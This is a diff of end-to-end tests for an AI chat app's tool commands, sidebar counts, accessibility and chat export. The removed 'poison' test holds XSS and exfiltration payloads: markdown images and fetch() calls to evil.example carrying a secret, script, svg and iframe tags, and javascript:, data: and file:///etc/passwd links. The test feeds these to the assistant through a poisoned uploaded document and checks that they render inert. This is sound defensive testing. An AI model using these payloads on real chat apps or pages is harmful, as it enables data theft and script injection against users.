@@ -1,59 +1,42 @@
-import { readFile } from 'node:fs/promises'
-import { textFile } from '../tests/support/document-files.ts'
-import { violations } from './support/axe.ts'
-import { tabTo } from './support/by-keyboard.ts'
-import { call } from './support/call.ts'
+import type { Page } from '@playwright/test'
+import { violations } from '../../../../e2e/support/axe.ts'
+import { tabTo } from '../../../../e2e/support/by-keyboard.ts'
+import { call } from '../../../../e2e/support/call.ts'
 import {
   answered,
   box,
   button,
   chatPages,
   generalPage,
-  ragPage,
   temporaryPage,
-  documentRow,
+  exported,
   log,
+  needsTools,
   openChat,
   send,
   speak,
-  upload,
-} from './support/chat-fixtures.ts'
-import { expect, hydrated, isShown, test } from './support/fixtures.ts'
-import { holdResponse } from './support/hold-response.ts'
-import { inDatabase } from './support/in-database.ts'
-import { languages, tagOf, textIn } from './support/texts.ts'
-
-const handbook = {
-  en: {
-    text: 'The kiln is heated to 1240 degrees for stoneware. Cooling takes two days.',
-    question: 'To how many degrees is the kiln heated for stoneware?',
-  },
-  de: {
-    text: 'Der Ofen wird für Steinzeug auf 1240 Grad geheizt. Das Abkühlen dauert zwei Tage.',
-    question: 'Auf wie viel Grad wird der Ofen für Steinzeug geheizt?',
-  },
-  es: {
-    text: 'El horno se calienta a 1240 grados para el gres. Enfriarlo tarda dos días.',
-    question: '¿A cuántos grados se calienta el horno para el gres?',
-  },
-  pt: {
-    text: 'O forno é aquecido a 1240 graus para o grés. O resfriamento leva dois dias.',
-    question: 'A quantos graus o forno é aquecido para o grés?',
-  },
-}
+} from './chat-fixtures.ts'
+import { expect, hydrated, isShown, test } from '../../../../e2e/support/fixtures.ts'
+import { holdResponse } from '../../../../e2e/support/hold-response.ts'
+import { inDatabase } from '../../../../e2e/support/in-database.ts'
+import { languages, tagOf, textIn } from '../../../../e2e/support/texts.ts'
 
 for (const language of languages) {
   const t = textIn(language)
   test(
-    `without a key all three pages respond: commands look up posts and add a to-do after approval, a document is quoted and opens at the quotation: ${language}`,
+    `without a key the pages respond: commands write and look up posts and add a to-do after approval: ${language}`,
     tagOf(language),
-    async ({ page, enter, user, write }) => {
+    async ({ page, enter, user }) => {
+      needsTools('searchPosts', 'createPost', 'addTodo')
       await speak(page, language)
       await enter(user)
-      await write('Kiln opening on Thursday')
-      const addTodo = `/todo ${t('todos:chat.todo.example')}`
+      const addTodo = `/todo ${t('chat:suggestions.todo.text')}`
       await openChat(page, generalPage)
       await expect(page.getByText(t('chat:model.builtIn'))).toBeVisible()
+      await send(page, '/post Kiln opening on Thursday')
+      await button(page, t('chat:approval.approve')).click()
+      await answered(page)
+      await openChat(page, generalPage)
       await log(page)
         .getByRole('button', { name: t('posts:chat.posts.title') })
         .click()
@@ -78,40 +61,22 @@ for (const language of languages) {
       await page.reload()
       await hydrated(page)
       await expect(log(page).getByText(t('chat:empty.temporary'))).toBeVisible()
-      await openChat(page, ragPage)
-      await upload(page, { 'kiln.md': textFile(`# Kiln\n\n${handbook[language].text}\n`) })
-      await expect(documentRow(page, 'kiln.md').getByText(t('documents:status.ready'))).toBeVisible({
-        timeout: 60_000,
-      })
-      await send(page, handbook[language].question)
-      const isFound = log(page).getByText(t('chat:retrieval.answer'), { exact: true })
-      await expect(
-        isFound.or(log(page).getByText(t('chat:retrieval.possible'), { exact: true })).first(),
-      ).toBeVisible()
-      const quotes = log(page).locator('blockquote')
-      await expect(quotes.filter({ hasText: '1240' })).toHaveCount(1)
-      await expect(quotes.filter({ hasText: /^\s*Kiln/ })).toHaveCount(0)
-      await log(page)
-        .getByRole('button', { name: t('chat:sources.open', { number: '1', name: 'kiln.md', page: '1' }) })
-        .first()
-        .click()
-      await expect(page.getByRole('dialog').locator('mark')).toContainText('1240')
-      await page.keyboard.press('Escape')
-      await send(page, 'Zyxwv qwrtp?')
-      await expect(log(page).getByText(t('chat:retrieval.none'), { exact: true })).toBeVisible()
     },
   )
 }
 
+/** Entries of the sidebar that end with a number. */
+const counted = (page: Page) => page.getByRole('complementary').getByRole('link').filter({ hasText: /\d$/ })
+
 test('the sidebar counts a to-do as soon as the chat has added it', async ({ page, enter, user }) => {
+  needsTools('addTodo')
   const t = textIn('en')
   await enter(user)
   await openChat(page, generalPage)
-  const todos = page.locator('a[href="/dashboard/tanstack-db-example"]').first()
   await send(page, '/todo Order clay')
-  await expect(todos).toHaveText(t('todos:shell.nav'))
+  await expect(counted(page)).toHaveCount(0)
   await button(page, t('chat:approval.approve')).click()
-  await expect(todos).toHaveText(`${t('todos:shell.nav')}1`)
+  await expect(counted(page)).toHaveText([/1$/])
 })
 
 test('the sidebar counts a to-do of a response that ended after its page was left', async ({
@@ -119,6 +84,7 @@ test('the sidebar counts a to-do of a response that ended after its page was lef
   enter,
   user,
 }) => {
+  needsTools('addTodo')
   const t = textIn('en')
   await enter(user)
   await openChat(page, generalPage)
@@ -127,14 +93,12 @@ test('the sidebar counts a to-do of a response that ended after its page was lef
   await button(page, t('chat:approval.approve')).click()
   await answer.handled
   await page
-    .getByRole('link', { name: t('posts:shell.nav'), exact: true })
+    .getByRole('link', { name: t('app:nav.home'), exact: true })
     .first()
     .click()
-  await expect(page.getByRole('heading', { name: t('posts:list.title'), exact: true })).toBeVisible()
+  await expect(page.getByRole('heading', { level: 1 })).toContainText(user.firstName)
   answer.release()
-  await expect(page.locator('a[href="/dashboard/tanstack-db-example"]').first()).toHaveText(
-    `${t('todos:shell.nav')}1`,
-  )
+  await expect(counted(page)).toHaveText([/1$/])
 })
 
 test('by keyboard alone: a command is chosen from the list, sent and approved', async ({
@@ -142,6 +106,7 @@ test('by keyboard alone: a command is chosen from the list, sent and approved', 
   enter,
   user,
 }) => {
+  needsTools('searchPosts', 'createPost', 'listTodos', 'addTodo')
   const t = textIn('pt')
   await speak(page, 'pt')
   await enter(user)
@@ -179,6 +144,7 @@ test('a command is chosen with the pointer, and one without text is sent immedia
   enter,
   user,
 }) => {
+  needsTools('listTodos')
   await enter(user)
   await openChat(page, generalPage)
   await box(page).pressSequentially('/')
@@ -192,6 +158,7 @@ test('the three pages break no accessibility rule: with a response, with a pendi
   enter,
   user,
 }) => {
+  needsTools('createPost')
   const t = textIn('en')
   await enter(user)
   for (const path of chatPages) {
@@ -203,61 +170,6 @@ test('the three pages break no accessibility rule: with a response, with a pendi
   await button(page, t('chat:threads.open')).click()
   await page.getByRole('dialog').waitFor()
   expect(await violations(page), 'the sheet of the threads').toEqual([])
-})
-
-const poison = [
-  '![a](https://evil.example/a.png?d=SECRET)',
-  '<img src="https://evil.example/b.png" onerror="fetch(\'https://evil.example/c\')">',
-  '[click](javascript:alert(1)) <a href="javascript:alert(2)">here</a>',
-  '<script>fetch("https://evil.example/d")</script><iframe src="https://evil.example/e"></iframe>',
-  '![b][r] <svg onload="alert(3)"><style>@import "https://evil.example/f"</style>',
-  '[r]: https://evil.example/g.png',
-  '<link rel="preload" as="image" href="https://evil.example/h.png"> ![x](//evil.example/i.png)',
-  '[data](data:text/html,<script>alert(4)</script>) [v](vbscript:msgbox(5)) [f](file:///etc/passwd)',
-]
-
-test('a poisoned document or message is shown as text: nothing is fetched from elsewhere, nothing runs, no link runs a script', async ({
-  page,
-  enter,
-  user,
-  baseURL,
-}) => {
-  const t = textIn('en')
-  const foreign: string[] = []
-  page.on(
-    'request',
-    (request) =>
-      !request.url().startsWith(baseURL ?? '') &&
-      /^https?:/.test(request.url()) &&
-      foreign.push(request.url()),
-  )
-  page.on('dialog', (dialog) => foreign.push(dialog.message()))
-  await enter(user)
-  await openChat(page, ragPage)
-  await upload(page, {
-    'poison.md': textFile(
-      poison.map((line, at) => `The secret glaze number ${at} is celadon ${line} celadon.`).join('\n\n'),
-    ),
-  })
-  await expect(documentRow(page, 'poison.md').getByText(t('documents:status.ready'))).toBeVisible({
-    timeout: 60_000,
-  })
-  for (const [at, line] of poison.entries()) {
-    await send(page, `What is the secret glaze number ${at}? ${line}`)
-    await expect(
-      log(page).locator(
-        'img, iframe, script, style, svg[onload], a[href^="javascript:"], a[href^="data:"], a[href^="vbscript:"]',
-      ),
-    ).toHaveCount(0)
-  }
-  await expect(log(page).getByText('celadon').first()).toBeVisible()
-  for (const rel of await log(page)
-    .locator('a[href^="http"]')
-    .evaluateAll((links) => links.map((link) => link.getAttribute('rel'))))
-    expect(rel).toContain('noopener')
-  await page.reload()
-  await hydrated(page)
-  expect(foreign).toEqual([])
 })
 
 for (const language of ['en', 'de'] as const) {
@@ -335,43 +247,22 @@ test('a nearly exhausted limit is announced once, not again in the next thread',
   await expect(said).toHaveCount(0)
 })
 
-test('a chat is exported as Markdown and as JSON, with its sources', async ({ page, enter, user }) => {
+test('a chat is exported as Markdown and as JSON', async ({ page, enter, user }) => {
+  needsTools('searchPosts')
   const t = textIn('en')
   await enter(user)
-  await openChat(page, ragPage)
-  await upload(page, { 'kiln.md': textFile(`# Kiln\n\n${handbook.en.text}\n`) })
-  await expect(documentRow(page, 'kiln.md').getByText(t('documents:status.ready'))).toBeVisible({
-    timeout: 60_000,
+  await openChat(page, generalPage)
+  await send(page, '/posts')
+  const markdown = await exported(page, { title: '/posts', entry: t('chat:threads.asMarkdown') })
+  expect(markdown.name).toBe('posts.md')
+  expect(markdown.text).toContain('# /posts')
+  expect(markdown.text).toContain('> /posts')
+  expect(markdown.text).toContain(t('chat:tools.newestPosts'))
+  const json = await exported(page, { title: '/posts', entry: t('chat:threads.asJson') })
+  expect(JSON.parse(json.text)).toMatchObject({
+    title: '/posts',
+    messages: [{ role: 'user' }, { role: 'assistant', model: { isBuiltIn: true } }],
   })
-  for (const [path, question] of [
-    [generalPage, '/posts'],
-    [ragPage, handbook.en.question],
-  ] as const) {
-    await openChat(page, path)
-    await send(page, question)
-    const keep = async (entry: string) => {
-      const [download] = await Promise.all([
-        page.waitForEvent('download'),
-        (async () => {
-          await button(page, t('chat:threads.menu', { title: question })).click()
-          await page.getByRole('menuitem', { name: entry }).click()
-        })(),
-      ])
-      return { name: download.suggestedFilename(), text: await readFile(await download.path(), 'utf8') }
-    }
-    const markdown = await keep(t('chat:threads.asMarkdown'))
-    expect(markdown.name).toBe(`${question.replaceAll(/[/?]/g, ' ').trim()}.md`)
-    expect(markdown.text).toContain(`# ${question}`)
-    expect(markdown.text).toContain(`> ${question}`)
-    expect(markdown.text).toContain(
-      path === ragPage ? String.raw`- \[1\] kiln.md, page 1` : t('posts:chat.newest'),
-    )
-    const json = await keep(t('chat:threads.asJson'))
-    expect(JSON.parse(json.text)).toMatchObject({
-      title: question,
-      messages: [{ role: 'user' }, { role: 'assistant', model: { isBuiltIn: true } }],
-    })
-  }
 })
 
 test('a message is edited and regenerated, and every version can be selected', async ({
@@ -379,6 +270,7 @@ test('a message is edited and regenerated, and every version can be selected', a
   enter,
   user,
 }) => {
+  needsTools('searchPosts', 'listTodos')
   const t = textIn('en')
   await enter(user)
   await openChat(page, generalPage)
